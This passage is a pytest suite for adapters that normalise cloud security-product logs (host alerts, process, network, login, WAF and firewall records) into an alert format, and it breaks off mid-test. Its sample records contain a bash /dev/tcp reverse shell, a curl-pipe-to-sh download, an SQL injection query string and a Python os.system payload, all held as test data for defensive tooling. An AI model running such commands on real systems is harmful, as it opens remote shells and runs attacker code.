"""The log-delivery adapters map each product's records onto our native format.

Sample records are written the way Log Service delivers them: flat maps of
strings, ``-`` for "no value", epoch seconds as strings.
"""

import copy
import json

import pytest

from alerts.adapters import FORMATS, MAX_VALUE_LENGTH, AdapterError, NotAnAttackRecord
from alerts.adapters.base import parse_time

ACCOUNT = "1111111111111111"
OTHER_ACCOUNT = "2222222222222222"
HOST_UUID = "bffb12c3-590a-4db2-b538-5c3e8a1f0a21"
UNIQUE_INFO = "73fc06fb175a7405697e402f528640c1"
# 1714528800 is 2024-05-01 10:00:00 in UTC+08:00.
EPOCH = "1714528800"
EPOCH_ISO = "2024-05-01T02:00:00+00:00"


def to_native(format_name, record, default_account=None):
    return FORMATS[format_name].to_native(record, default_account=default_account)


def field_at_fault(format_name, record, default_account=None):
    with pytest.raises(AdapterError) as caught:
        to_native(format_name, record, default_account)
    return caught.value.field


# --- sample records -----------------------------------------------------------------------


def sas_login_alert_row(**changes):
    """A ``sas-security-log`` row as the Log Audit copy delivers it."""
    row = {
        "__topic__": "sas-security-log",
        "__time__": "1714528805",
        "__source__": "log_service",
        "owner_id": ACCOUNT,
        "data_source": "aegis_login_log",
        "level": "serious",
        "name": "Unusual Logon-Login with unusual location",
        "op": "new",
        "status": "1",
        "uuid": HOST_UUID,
        "unique_info": UNIQUE_INFO,
        "detail": json.dumps(
            [
                {"name": "Login Source IP", "value": "203.0.113.7"},
                {"name": "Login User", "value": "root"},
                {"name": "Login Type", "value": "SSH"},
                {"name": "Intranet IP", "value": "10.0.0.161"},
            ]
        ),
        "start_time": EPOCH,
        "suspicious_event_id": "129636",
        "instance_id": "i-bp1a2b3c4d5e6f7g8h9i",
        "intranet_ip": "10.0.0.161",
        "threat_level_note": "not a documented field",
    }
    row.update(changes)
    return row


def sas_reverse_shell_row(**changes):
    row = {
        "__topic__": "sas-security-log",
        "__time__": "1714528862",
        "owner_id": ACCOUNT,
        "data_source": "aegis_suspicious_event",
        "level": "serious",
        "name": "Suspicious process-Reverse shell",
        "op": "new",
        "uuid": HOST_UUID,
        "unique_info": "0a1b2c3d4e5f60718293a4b5c6d7e8f9",
        "detail": json.dumps(
            {
                "Process Path": "/usr/bin/bash",
                "Command Line": "bash -i >& /dev/tcp/198.51.100.20/4444 0>&1",
                "Process ID": "23811",
                "User": "www-data",
                "Parent Process Path": "/usr/sbin/php-fpm",
                "Remote IP": "198.51.100.20",
            }
        ),
        "start_time": "1714528860",
        "instance_id": "i-bp1a2b3c4d5e6f7g8h9i",
        "intranet_ip": "10.0.0.161",
    }
    row.update(changes)
    return row


def susp_event_item(**changes):
    """One ``SuspEvents[]`` item of a ``DescribeSuspEvents`` answer."""
    item = {
        "Id": 1000,
        "UniqueInfo": UNIQUE_INFO,
        "AlarmUniqueInfo": "8df914418f2b2a4c",
        "Uuid": HOST_UUID,
        "InstanceId": "i-bp1a2b3c4d5e6f7g8h9i",
        "InstanceName": "web-prod-01",
        "InternetIp": "198.51.100.10",
        "IntranetIp": "10.0.0.161",
        "Name": "Webshell-PHP webshell",
        "AlarmEventName": "php_webshell",
        "AlarmEventNameDisplay": "PHP webshell",
        "AlarmEventType": "Webshell",
        "AlarmEventTypeDisplay": "Webshell",
        "EventSubType": "WEBSHELL",
        "Level": "suspicious",
        "EventStatus": 1,
        "DataSource": "aegis_suspicious_file_v2",
        "Desc": "A webshell file was found in the web directory.",
        "Details": [
            {
                "NameDisplay": "File Path",
                "Type": "text",
                "Value": "/var/www/html/upload/x.php",
                "ValueDisplay": "/var/www/html/upload/x.php",
            },
            {
                "NameDisplay": "MD5",
                "Type": "text",
                "Value": "9E107D9D372BB6826BD81D3542A419D6",
                "ValueDisplay": "9E107D9D372BB6826BD81D3542A419D6",
            },
        ],
        "OccurrenceTime": "2024-05-01 10:00:00",
        "OccurrenceTimeStamp": 1714528800000,
        "LastTime": "2024-05-01 10:30:00",
        "LastTimeStamp": 1714530600000,
        "TacticItems": [{"TacticId": "TA0003", "TacticDisplayName": "Persistence"}],
        "SourceAliUid": 1111111111111111,
        "CanBeDealOnLine": True,
    }
    item.update(changes)
    return item


def process_row_v2(**changes):
    row = {
        "__topic__": "aegis-log-process",
        "__time__": "1714528801",
        "owner_id": ACCOUNT,
        "uuid": HOST_UUID,
        "host_ip": "10.0.0.161",
        "instance_id": "i-bp1a2b3c4d5e6f7g8h9i",
        "pid": "23811",
        "ppid": "1200",
        "proc_name": "bash",
        "proc_path": "/usr/bin/bash",
        "cmdline": "/bin/bash -c curl http://198.51.100.20/y.sh|sh",
        "username": "www-data",
        "parent_proc_name": "php-fpm",
        "pcmdline": "php-fpm: pool www",
        "proc_start_time": "2024-05-01 10:00:00",
        "start_time": EPOCH,
    }
    row.update(changes)
    return row


def process_row_old(**changes):
    """The same process start in the older Log Audit schema."""
    row = {
        "__topic__": "aegis-log-process",
        "__time__": EPOCH,
        "owner_id": ACCOUNT,
        "uuid": HOST_UUID,
        "ip": "10.0.0.161",
        "pid": "23811",
        "ppid": "1200",
        "filename": "bash",
        "filepath": "/usr/bin/bash",
        "cmdline": "/bin/bash -c curl http://198.51.100.20/y.sh|sh",
        "username": "www-data",
        "uid": "33",
        "groupname": "www-data",
        "pfilename": "php-fpm",
        "pfilepath": "/usr/sbin/php-fpm",
    }
    row.update(changes)
    return row


def network_row(**changes):
    row = {
        "__topic__": "aegis-log-network",
        "__time__": "1714528803",
        "owner_id": ACCOUNT,
        "uuid": HOST_UUID,
        "ip": "10.0.0.161",
        "src_ip": "10.0.0.161",
        "src_port": "51514",
        "dst_ip": "198.51.100.20",
        "dst_port": "4444",
        "proc_name": "bash",
        "proc_path": "/usr/bin/bash",
        "proto": "TCP",
        "status": "5",
        "start_time": EPOCH,
    }
    row.update(changes)
    return row


def login_row(topic="aegis-log-login", **changes):
    row = {
        "__topic__": topic,
        "__time__": "1714528810",
        "owner_id": ACCOUNT,
        "uuid": HOST_UUID,
        "ip": "10.0.0.161",
        "warn_ip": "203.0.113.7",
        "warn_port": "22",
        "warn_type": "SSHLOGIN",
        "warn_user": "root",
        "warn_count": "3",
        "start_time": EPOCH,
    }
    row.update(changes)
    return row


def waf_block_row(**changes):
    """A WAF 2.0 request blocked by the core web rules."""
    row = {
        "__topic__": "waf_access_log",
        "__time__": "1525248240",
        "time": "2018-05-02T16:03:59+08:00",
        "user_id": ACCOUNT,
        "host": "api.example.com",
        "matched_host": "*.example.com",
        "real_client_ip": "203.0.113.7",
        "remote_addr": "198.51.100.77",
        "remote_port": "3242",
        "http_x_forwarded_for": "203.0.113.7, 198.51.100.77",
        "request_method": "GET",
        "request_path": "/news/search.php",
        "querystring": "id=1%20union%20select%20password%20from%20users",
        "https": "true",
        "status": "405",
        "upstream_status": "-",
        "request_traceid": "7837b11715410386943437009ea1f0",
        "http_user_agent": "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "http_referer": "-",
        "final_action": "block",
        "final_plugin": "waf",
        "final_rule_id": "115341",
        "final_rule_type": "sqli",
        "waf_action": "block",
        "waf_rule_id": "115341",
        "waf_rule_type": "sqli",
        "waf_test": "false",
        "region": "cn",
        "ua_browser": "unknown",
    }
    row.update(changes)
    return row


def waf_plain_row(**changes):
    row = waf_block_row(
        querystring="title=tm_content%3Darticle&pid=123",
        status="200",
        upstream_status="200",
        http_user_agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        request_traceid="7837b11715410386943437009ea1f1",
    )
    for key in ("final_action", "final_plugin", "final_rule_id", "final_rule_type"):
        del row[key]
    for key in ("waf_action", "waf_rule_id", "waf_rule_type", "waf_test"):
        del row[key]
    row.update(changes)
    return row


def cfw_mining_row(**changes):
    """An outbound session to a mining pool that the IPS blocked."""
    row = {
        "__topic__": "cloudfirewall_access_log",
        "__time__": "2019-04-16 15:21:00",
        "log_type": "internet_log",
        "aliuid": ACCOUNT,
        "src_ip": "198.51.100.10",
        "src_port": "47915",
        "src_private_ip": "192.168.0.12",
        "dst_ip": "203.0.113.50",
        "dst_port": "3333",
        "direction": "out",
        "ip_protocol": "TCP",
        "app_name": "Unknown",
        "domain": "Pool.Example.net",
        "rule_result": "drop",
        "acl_rule_id": "00000000-0000-0000-0000-000000000000",
        "ips_rule_id": "073a1475-6e11-43e2-8b28-98cee9c688c0",
        "ips_rule_name": "主机存在挖矿行为",
        "ips_rule_name_en": "Mining behavior on the host",
        "attack_type_name": "挖矿行为",
        "attack_type_name_en": "Mining Behavior",
        "vul_level": "3",
        "start_time": "1555399258",
        "end_time": "1555399260",
        "region_id": "cn-beijing",
        "tcp_seq": "3883676672",
        "in_packet_bytes": "2857",
        "out_packet_bytes": "6872",
    }
    row.update(changes)
    return row


def cfw_traffic_row(**changes):
    row = {
        "__topic__": "cloudfirewall_access_log",
        "__time__": "2018-02-27 11:58:15",
        "log_type": "internet_log",
        "aliuid": ACCOUNT,
        "src_ip": "203.0.113.7",
        "src_port": "47915",
        "dst_ip": "198.51.100.10",
        "dst_port": "443",
        "direction": "in",
        "ip_protocol": "TCP",
        "app_name": "HTTPS",
        "domain": "www.example.com",
        "rule_result": "pass",
        "acl_rule_id": "00000000-0000-0000-0000-000000000000",
        "ips_rule_id": "-",
        "region_id": "cn-beijing",
    }
    row.update(changes)
    return row


# --- the registry -------------------------------------------------------------------------


def test_it_registers_every_format_with_its_kind():
    kinds = {name: adapter.kind for name, adapter in FORMATS.items()}

    assert kinds == {
        "sas_alert": "alert",
        "sas_process": "log",
        "sas_network": "log",
        "sas_login": "log",
        "sas_crack": "log",
        "waf": "alert",
        "waf_access": "log",
        "cloud_firewall": "alert",
        "cloud_firewall_traffic": "log",
    }


def test_it_reports_the_field_at_fault_in_the_error():
    error = AdapterError("level", "the record has no level")

    assert error.field == "level"
    assert str(error) == "level: the record has no level"


# --- times --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (EPOCH, EPOCH_ISO),
        (1714528800, EPOCH_ISO),
        ("1714528800123", "2024-05-01T02:00:00.123000+00:00"),
        (1714528800000, EPOCH_ISO),
        ("2024-05-01 10:00:00", EPOCH_ISO),
        ("2024-05-01T10:00:00+08:00", EPOCH_ISO),
        ("2024-05-01T02:00:00Z", EPOCH_ISO),
        ("2024-05-01T04:00:00+02:00", EPOCH_ISO),
    ],
)
def test_it_reads_every_time_shape_as_utc(value, expected):
    assert parse_time(value, "start_time").isoformat() == expected


@pytest.mark.parametrize(
    "value",
    [
        "N/A",
        "yesterday",
        "2024-13-01 10:00:00",
        True,
        # Outside the years 2000 to 2100; the first two overflow when moved to UTC.
        "0001-01-01 00:00:00",
        "9999-12-31T23:59:59-23:59",
        "1",
        99999999999999,
    ],
)
def test_it_rejects_an_unreadable_time_naming_the_field(value):
    with pytest.raises(AdapterError) as caught:
        parse_time(value, "start_time")

    assert caught.value.field == "start_time"


# --- accounts -----------------------------------------------------------------------------


def test_it_takes_the_account_from_the_record_before_the_default():
    native = to_native("sas_process", process_row_v2(), default_account=OTHER_ACCOUNT)

    assert native["account"] == ACCOUNT


def test_it_takes_the_account_from_the_project_name():
    row = process_row_v2(__project__=f"sas-log-{ACCOUNT}-cn-hangzhou")
    del row["owner_id"]

    assert to_native("sas_process", row, default_account=OTHER_ACCOUNT)["account"] == ACCOUNT


def test_it_falls_back_to_the_default_account():
    row = process_row_v2()
    del row["owner_id"]

    assert to_native("sas_process", row, default_account=OTHER_ACCOUNT)["account"] == OTHER_ACCOUNT


def test_it_refuses_a_record_without_any_account():
    row = process_row_v2(owner_id="-")

    assert field_at_fault("sas_process", row) == "account"


def test_it_refuses_a_masked_account_uid():
    assert field_at_fault("sas_process", process_row_v2(owner_id="1234567890****")) == "owner_id"


# --- sas_alert ----------------------------------------------------------------------------


def test_it_maps_a_security_alert_log_row():
    row = sas_login_alert_row()

    native = to_native("sas_alert", row)

    assert native == {
        "source": "security_center",
        "uuid": f"{HOST_UUID}:{UNIQUE_INFO}",
        "account": ACCOUNT,
        "type": "suspicious_login",
        "name": "Unusual Logon-Login with unusual location",
        "level": "high",
        "occurred_at": EPOCH_ISO,
        "asset": {
            "instance_id": "i-bp1a2b3c4d5e6f7g8h9i",
            "uuid": HOST_UUID,
            "private_ip": "10.0.0.161",
        },
        "entities": [
            {"type": "ip", "role": "attacker", "value": "203.0.113.7"},
            {
                "type": "user",
                "role": "victim",
                "name": "root",
                "logon_type": "SSH",
                "src_ip": "203.0.113.7",
            },
        ],
        "description": (
            "Login Source IP: 203.0.113.7\nLogin User: root\nLogin Type: SSH\n"
            "Intranet IP: 10.0.0.161"
        ),
        "exceptions": [
            {"name": "Login Source IP", "value": "203.0.113.7"},
            {"name": "Login User", "value": "root"},
            {"name": "Login Type", "value": "SSH"},
            {"name": "Intranet IP", "value": "10.0.0.161"},
        ],
        "raw": row,
    }


def test_it_maps_a_process_alert_to_its_process_and_remote_ip():
    native = to_native("sas_alert", sas_reverse_shell_row())

    assert native["type"] == "reverse_shell"
    assert native["occurred_at"] == "2024-05-01T02:01:00+00:00"
    assert native["entities"] == [
        {"type": "ip", "role": "attacker", "value": "198.51.100.20"},
        {
            "type": "process",
            "role": "related",
            "pid": 23811,
            "path": "/usr/bin/bash",
            "cmdline": "bash -i >& /dev/tcp/198.51.100.20/4444 0>&1",
            "user": "www-data",
        },
        {"type": "process", "role": "related", "path": "/usr/sbin/php-fpm"},
    ]


def test_it_reads_localised_detail_labels_and_skips_the_hosts_own_address():
    item = susp_event_item(
        Name="异常登录-异地登录",
        AlarmEventType="异常登录",
        AlarmEventTypeDisplay="异常登录",
        AlarmEventName="login_common_location",
        EventSubType="login_common_location",
        Details=[
            {"NameDisplay": "登录源IP", "Type": "text", "Value": "203.0.113.7"},
            {"NameDisplay": "登录用户", "Type": "text", "Value": "root"},
            {"NameDisplay": "IP", "Type": "text", "Value": "10.0.0.161"},
            {"NameDisplay": "Peer", "Type": "text", "Value": "198.51.100.30"},
            {"NameDisplay": "URL", "Type": "text", "Value": "http://198.51.100.30/a.sh"},
            {"NameDisplay": "Domain", "Type": "text", "Value": "Evil.Example.com"},
        ],
    )

    native = to_native("sas_alert", item)

    assert native["type"] == "suspicious_login"
    assert native["entities"] == [
        {"type": "ip", "role": "attacker", "value": "203.0.113.7"},
        {"type": "ip", "role": "related", "value": "198.51.100.30"},
        {"type": "user", "role": "victim", "name": "root", "src_ip": "203.0.113.7"},
        {"type": "url", "role": "related", "value": "http://198.51.100.30/a.sh"},
        {"type": "domain", "role": "related", "value": "evil.example.com"},
    ]


def test_it_maps_a_describe_susp_events_item():
    item = susp_event_item()

    native = to_native("sas_alert", item)

    assert native == {
        "source": "security_center",
        "uuid": f"{HOST_UUID}:{UNIQUE_INFO}",
        "account": ACCOUNT,
        "type": "webshell",
        "name": "Webshell-PHP webshell",
        "level": "medium",
        "occurred_at": EPOCH_ISO,
        "asset": {
            "instance_id": "i-bp1a2b3c4d5e6f7g8h9i",
            "uuid": HOST_UUID,
            "name": "web-prod-01",
            "public_ip": "198.51.100.10",
            "private_ip": "10.0.0.161",
        },
        "entities": [
            {
                "type": "file",
                "role": "related",
                "path": "/var/www/html/upload/x.php",
                "md5": "9e107d9d372bb6826bd81d3542a419d6",
            }
        ],
        "attck": {"tactic": "TA0003"},
        "description": "A webshell file was found in the web directory.",
        "exceptions": [
            {"name": "File Path", "value": "/var/www/html/upload/x.php"},
            {"name": "MD5", "value": "9E107D9D372BB6826BD81D3542A419D6"},
        ],
        "raw": item,
    }


def test_it_reads_the_api_item_time_string_when_the_timestamp_is_missing():
    item = susp_event_item()
    del item["OccurrenceTimeStamp"]

    assert to_native("sas_alert", item)["occurred_at"] == EPOCH_ISO


def test_it_gives_a_log_row_and_an_api_item_of_one_alert_the_same_uuid():
    from_log = to_native("sas_alert", sas_login_alert_row())
    from_api = to_native("sas_alert", susp_event_item())

    assert from_log["uuid"] == from_api["uuid"]


def test_it_gives_a_lifecycle_row_the_uuid_of_its_alert():
    raised = to_native("sas_alert", sas_login_alert_row(op="new"))
    handled = to_native("sas_alert", sas_login_alert_row(op="dealing", status="16"))

    assert handled["uuid"] == raised["uuid"]


def test_it_fingerprints_an_alert_without_unique_info():
    row = sas_login_alert_row(unique_info="-")

    first = to_native("sas_alert", row)["uuid"]
    again = to_native("sas_alert", copy.deepcopy(row))["uuid"]
    other = to_native("sas_alert", sas_login_alert_row(unique_info="-", start_time="1714528900"))

    assert len(first) == 64
    assert again == first
    assert other["uuid"] != first


@pytest.mark.parametrize(
    ("level", "expected"),
    [("serious", "high"), ("suspicious", "medium"), ("remind", "low"), ("High", "high")],
)
def test_it_maps_security_center_levels(level, expected):
    assert to_native("sas_alert", sas_login_alert_row(level=level))["level"] == expected


@pytest.mark.parametrize("level", ["-", "", "urgent"])
def test_it_names_the_level_field_when_the_level_is_missing_or_unknown(level):
    assert field_at_fault("sas_alert", sas_login_alert_row(level=level)) == "level"


def test_it_names_both_spellings_when_an_api_item_has_no_level():
    item = susp_event_item()
    del item["Level"]

    with pytest.raises(AdapterError) as caught:
        to_native("sas_alert", item)

    assert caught.value.field == "level"
    assert "Level" in caught.value.message


def test_it_names_the_time_field_when_the_alert_has_no_time():
    assert field_at_fault("sas_alert", sas_login_alert_row(start_time="", __time__="-")) == (
        "start_time"
    )


@pytest.mark.parametrize(
    ("name", "data_source", "expected"),
    [
        ("Webshell-PHP webshell", "aegis_suspicious_file_v2", "webshell"),
        ("网站后门-发现后门文件", "aegis_suspicious_file_v2", "webshell"),
        ("Malicious process-Mining program", "aegis_suspicious_event", "mining"),
        ("Unusual Logon-Brute-force attack succeeded", "aegis_login_log", "brute_force"),
        ("Suspicious network connection-C2 callback", "security_event", "abnormal_network"),
        ("Malicious process-Trojan program", "aegis_suspicious_event", "malicious_process"),
        ("Rootkit-Kernel module hidden", "aegis_suspicious_event", "rootkit"),
        ("未知类别-新型告警", "aegis_login_log", "suspicious_login"),
        ("Container escape-Privileged container", "security_event", "container_escape"),
        ("未知类别-新型告警", "security_event", "security_event"),
    ],
)
def test_it_maps_alert_names_to_scenario_keys(name, data_source, expected):
    row = sas_login_alert_row(name=name, data_source=data_source, detail="-")

    assert to_native("sas_alert", row)["type"] == expected


def test_it_prefers_the_subtype_code_of_an_api_item():
    item = susp_event_item(
        Name="Suspicious process-Reverse shell",
        AlarmEventType="Suspicious process",
        AlarmEventName="reverse_shell_command",
        EventSubType="reverse_shell_command",
    )

    assert to_native("sas_alert", item)["type"] == "reverse_shell"


def test_it_normalises_dashes_and_empty_strings_in_an_alert():
    row = sas_login_alert_row(intranet_ip="-", instance_id="", detail="-")

    native = to_native("sas_alert", row)

    assert native["asset"] == {"uuid": HOST_UUID}
    assert native["entities"] == []
    assert native["description"] == ""


def test_it_keeps_an_undocumented_detail_string_as_the_description():
    native = to_native("sas_alert", sas_login_alert_row(detail="login from 203.0.113.7"))

    assert native["description"] == "login from 203.0.113.7"
    assert native["entities"] == []


def test_it_refuses_a_row_of_another_topic():
    assert field_at_fault("sas_alert", sas_login_alert_row(__topic__="sas-vul-log")) == "__topic__"


def test_it_keeps_the_alert_record_verbatim_and_unchanged():
    row = sas_login_alert_row()
    original = copy.deepcopy(row)

    native = to_native("sas_alert", row)
    native["raw"]["owner_id"] = "changed"

    assert row == original
    assert native["raw"]["threat_level_note"] == "not a documented field"


# --- sas_process --------------------------------------------------------------------------


def test_it_maps_a_process_start():
    row = process_row_v2()

    native = to_native("sas_process", row)

    assert native == {
        "type": "process",
        "account": ACCOUNT,
        "host_uuid": HOST_UUID,
        "time": EPOCH_ISO,
        "pid": 23811,
        "ppid": 1200,
        "path": "/usr/bin/bash",
        "cmdline": "/bin/bash -c curl http://198.51.100.20/y.sh|sh",
        "user": "www-data",
        "parent_cmdline": "php-fpm: pool www",
        "raw": row,
    }


def test_it_reads_the_older_process_field_names():
    native = to_native("sas_process", process_row_old())

    assert native["path"] == "/usr/bin/bash"
    assert native["parent_path"] == "/usr/sbin/php-fpm"
    assert native["time"] == EPOCH_ISO
    assert "parent_cmdline" not in native


def test_it_prefers_the_current_field_name_when_both_are_present():
    row = process_row_v2(filepath="/tmp/old-name")

    assert to_native("sas_process", row)["path"] == "/usr/bin/bash"


def test_it_drops_dashes_empty_strings_and_unreadable_numbers_from_a_process():
    row = process_row_v2(pcmdline="-", username="", pid="N/A")

    native = to_native("sas_process", row)

    assert "parent_cmdline" not in native
    assert "user" not in native
    assert "pid" not in native
    assert native["raw"]["pid"] == "N/A"


def test_it_refuses_a_process_without_a_host_uuid():
    assert field_at_fault("sas_process", process_row_v2(uuid="-")) == "uuid"


def test_it_refuses_a_process_without_a_time():
    row = process_row_v2()
    del row["start_time"]
    del row["__time__"]

    assert field_at_fault("sas_process", row) == "start_time"


def test_it_refuses_a_process_record_of_another_topic():
    assert field_at_fault("sas_process", network_row()) == "__topic__"


def test_it_cuts_an_absurdly_long_command_line_and_keeps_it_whole_in_raw():
    cmdline = "python3 -c " + "A" * 100_000
    native = to_native("sas_process", process_row_v2(cmdline=cmdline))

    assert native["cmdline"] == cmdline[:MAX_VALUE_LENGTH]
    assert native["raw"]["cmdline"] == cmdline


# --- sas_network --------------------------------------------------------------------------


def test_it_maps_a_host_connection_and_works_out_its_direction():
    row = network_row()

    native = to_native("sas_network", row)

    assert native == {
        "type": "network",
        "account": ACCOUNT,
        "host_uuid": HOST_UUID,
        "time": EPOCH_ISO,
        "process_path": "/usr/bin/bash",
        "src_ip": "10.0.0.161",
        "src_port": 51514,
        "dst_ip": "198.51.100.20",
        "dst_port": 4444,
        "protocol": "tcp",
        "direction": "out",
        "raw": row,
    }


def test_it_reads_an_inbound_connection_from_the_host_ip_alias():
    row = network_row(src_ip="203.0.113.7", dst_ip="10.0.0.161", dst_port="22")
    del row["ip"]
    row["host_ip"] = "10.0.0.161"

    assert to_native("sas_network", row)["direction"] == "in"


@pytest.mark.parametrize("alias", ["in_out", "net_connect_dir"])
def test_it_takes_a_written_direction_from_either_name(alias):
    row = network_row(ip="-", **{alias: "in"})

    assert to_native("sas_network", row)["direction"] == "in"


def test_it_drops_malformed_addresses_and_ports():
    native = to_native("sas_network", network_row(dst_ip="-", dst_port="70000", ip="-"))

    assert "dst_ip" not in native
    assert "dst_port" not in native
    assert "direction" not in native


# --- sas_login and sas_crack --------------------------------------------------------------


def test_it_maps_a_merged_logon():
    row = login_row()

    native = to_native("sas_login", row)

    assert native == {
        "type": "login",
        "account": ACCOUNT,
        "host_uuid": HOST_UUID,
        "time": EPOCH_ISO,
        "user": "root",
        "src_ip": "203.0.113.7",
        "result": "success",
        "method": "ssh",
        "count": 3,
        "raw": row,
    }


def test_it_reads_the_current_logon_source_name():
    row = login_row(warn_ip="-", src_ip="203.0.113.8")

    assert to_native("sas_login", row)["src_ip"] == "203.0.113.8"


@pytest.mark.parametrize(
    ("warn_type", "method"),
    [("RDPLOGIN", "rdp"), ("IPCLOGIN", "ipc"), ("SQLSERVERLOGIN", "sqlserver")],
)
def test_it_maps_logon_types_to_methods(warn_type, method):
    assert to_native("sas_login", login_row(warn_type=warn_type))["method"] == method


def test_it_counts_a_logon_without_a_count_once():
    assert to_native("sas_login", login_row(warn_count="-"))["count"] == 1


def test_it_maps_brute_force_to_failed_logons_with_their_count():
    row = login_row(
        topic="aegis-log-crack", warn_ip="198.51.100.9", warn_user="admin", warn_count="57"
    )

    native = to_native("sas_crack", row)

    assert native == {
        "type": "login",
        "account": ACCOUNT,
        "host_uuid": HOST_UUID,
        "time": EPOCH_ISO,
        "user": "admin",
        "src_ip": "198.51.100.9",
        "result": "failure",
        "method": "ssh",
        "count": 57,
        "raw": row,
    }


def test_it_refuses_a_successful_logon_as_brute_force():
    assert field_at_fault("sas_crack", login_row()) == "__topic__"


def test_it_refuses_a_brute_force_record_without_a_host_uuid():
    assert field_at_fault("sas_crack", login_row(topic="aegis-log-crack", uuid="")) == "uuid"


# --- waf ----------------------------------------------------------------------------------


def test_it_maps_a_blocked_web_attack():
    row = waf_block_row()

    native = to_native("waf", row)

    assert native == {
        "source": "waf",
        "uuid": "7837b11715410386943437009ea1f0",
        "account": ACCOUNT,
        "type": "web_attack",
        "name": "WAF blocked: web attack (sqli)",
        "level": "low",
        "occurred_at": "2018-05-02T08:03:59+00:00",
        "entities": [
            {"type": "ip", "role": "attacker", "value": "203.0.113.7"},
            {"type": "domain", "role": "victim", "value": "api.example.com"},
            {
                "type": "url",
                "role": "related",
                "value": "https://api.example.com/news/search.php"
                "?id=1%20union%20select%20password%20from%20users",
            },
            {
                "type": "payload",
                "role": "related",
                "value": "id=1%20union%20select%20password%20from%20users",
            },
        ],
        "attck": {"tactic": "TA0001", "technique": "T1190"},
        "description": (
            "GET https://api.example.com/news/search.php"
            "?id=1%20union%20select%20password%20from%20users; from 203.0.113.7; "
            "blocked by WAF module waf; rule 115341; attack type sqli; HTTP status 405."
        ),
        "exceptions": [],
        "raw": row,
    }


def test_it_maps_an_attack_seen_in_observation_mode_as_detected():
    row = waf_block_row(waf_test="true", status="200", upstream_status="200")
    for key in ("final_action", "final_plugin", "final_rule_id", "final_rule_type"):
        del row[key]

    native = to_native("waf", row)

    assert native["name"] == "WAF detected: web attack (sqli)"
    assert native["level"] == "medium"


def test_it_maps_a_legacy_block_record():
    row = waf_plain_row(
        waf_action="block", web_attack_type="xss", waf_rule_id="100", querystring="q=<script>"
    )

    native = to_native("waf", row)

    assert (native["type"], native["name"], native["level"]) == (
        "web_attack",
        "WAF blocked: web attack (xss)",
        "low",
    )


@pytest.mark.parametrize(
    ("changes", "scenario", "name"),
    [
        ({"cc_blocks": "1"}, "http_flood", "WAF blocked: HTTP flood"),
        ({"cc_action": "close"}, "http_flood", "WAF blocked: HTTP flood"),
        ({"acl_blocks": "1"}, "access_control", "WAF blocked: access control rule"),
        ({"block_action": "tmd"}, "http_flood", "WAF blocked: HTTP flood"),
        ({"antiscan_action": "block"}, "scanning", "WAF blocked: scanning"),
        ({"final_action": "block", "final_plugin": "scene"}, "bot", "WAF blocked: bot traffic"),
    ],
)
def test_it_maps_the_module_that_blocked_to_a_scenario(changes, scenario, name):
    native = to_native("waf", waf_plain_row(**changes))

    assert (native["type"], native["name"]) == (scenario, name)


def test_it_refuses_a_plain_access_record_as_no_attack():
    with pytest.raises(NotAnAttackRecord) as caught:
        to_native("waf", waf_plain_row())

    assert caught.value.field == "final_action"
    assert caught.value.message.startswith("not an attack record: ")
    assert "waf_access" in caught.value.message


def test_it_refuses_a_challenged_request_as_no_attack():
    with pytest.raises(NotAnAttackRecord) as caught:
        to_native("waf", waf_plain_row(final_action="captcha", final_plugin="cc"))

    assert "challenged" in caught.value.message


def test_it_falls_back_from_a_dash_client_ip_to_the_peer_address():
    native = to_native("waf", waf_block_row(real_client_ip="-"))

    assert native["entities"][0] == {"type": "ip", "role": "attacker", "value": "198.51.100.77"}


def test_it_reads_the_waf_3_source_address():
    row = waf_block_row(real_client_ip="-", src_ip="203.0.113.9", src_port="3242")
    del row["remote_addr"]

    assert to_native("waf", row)["entities"][0]["value"] == "203.0.113.9"


def test_it_fingerprints_a_waf_record_without_a_trace_id():
    row = waf_block_row(request_traceid="-")

    first = to_native("waf", row)["uuid"]
    again = to_native("waf", copy.deepcopy(row))["uuid"]
    other = to_native("waf", waf_block_row(request_traceid="-", remote_port="3243"))["uuid"]

    assert len(first) == 64
    assert again == first
    assert other != first


def test_it_gives_distinct_waf_requests_distinct_uuids():
    first = to_native("waf", waf_block_row())["uuid"]
    second = to_native("waf", waf_block_row(request_traceid="7837b11715410386943437009ea1f9"))

    assert second["uuid"] != first


def test_it_refuses_a_waf_attack_without_any_account():
    assert field_at_fault("waf", waf_block_row(user_id="-")) == "account"


def test_it_carries_an_attacker_url_as_text_only():
    hostile = "/x?u=http://198.51.100.66/payload.sh&c=__import__('os').system('id')"
    row = waf_block_row(request_path="/x", querystring=hostile.split("?", 1)[1])

    native = to_native("waf", row)

    assert native["entities"][2]["value"] == f"https://api.example.com{hostile}"


# --- waf_access ---------------------------------------------------------------------------


def test_it_maps_every_waf_request_to_an_http_log():
    row = waf_plain_row()

    native = to_native("waf_access", row)

    assert native == {
        "type": "http",
        "account": ACCOUNT,
        "host_uuid": "",
        "time": "2018-05-02T08:03:59+00:00",
        "method": "GET",
        "host": "api.example.com",
        "path": "/news/search.php",
        "status": 200,
        "src_ip": "203.0.113.7",
        "user_agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
        "raw": row,
    }


def test_it_maps_a_blocked_request_to_an_http_log_too():
    assert to_native("waf_access", waf_block_row())["status"] == 405


def test_it_reads_the_waf_3_request_uri_and_start_time():
    row = waf_plain_row(request_uri="/api/login?next=%2F", start_time="1714528800")
    for key in ("request_path", "querystring", "time"):
        del row[key]

    native = to_native("waf_access", row)

    assert (native["path"], native["time"]) == ("/api/login", EPOCH_ISO)


def test_it_takes_the_waf_account_from_the_log_audit_owner_id():
    row = waf_plain_row(user_id="-", owner_id=OTHER_ACCOUNT)

    assert to_native("waf_access", row)["account"] == OTHER_ACCOUNT


def test_it_drops_a_dash_user_agent():
    native = to_native("waf_access", waf_plain_row(http_user_agent="-"))

    assert "user_agent" not in native


def test_it_refuses_a_waf_line_without_a_time():
    row = waf_plain_row()
    del row["time"]
    del row["__time__"]

    assert field_at_fault("waf_access", row) == "time"


# --- cloud_firewall -----------------------------------------------------------------------


def test_it_maps_an_ips_hit_on_outbound_mining_traffic():
    row = cfw_mining_row()

    native = to_native("cloud_firewall", row)

    assert native == {
        "source": "cloud_firewall",
        "uuid": native["uuid"],
        "account": ACCOUNT,
        "type": "mining",
        "name": "Mining behavior on the host",
        "level": "high",
        "occurred_at": "2019-04-16T07:20:58+00:00",
        "asset": {
            "public_ip": "198.51.100.10",
            "private_ip": "192.168.0.12",
            "region": "cn-beijing",
        },
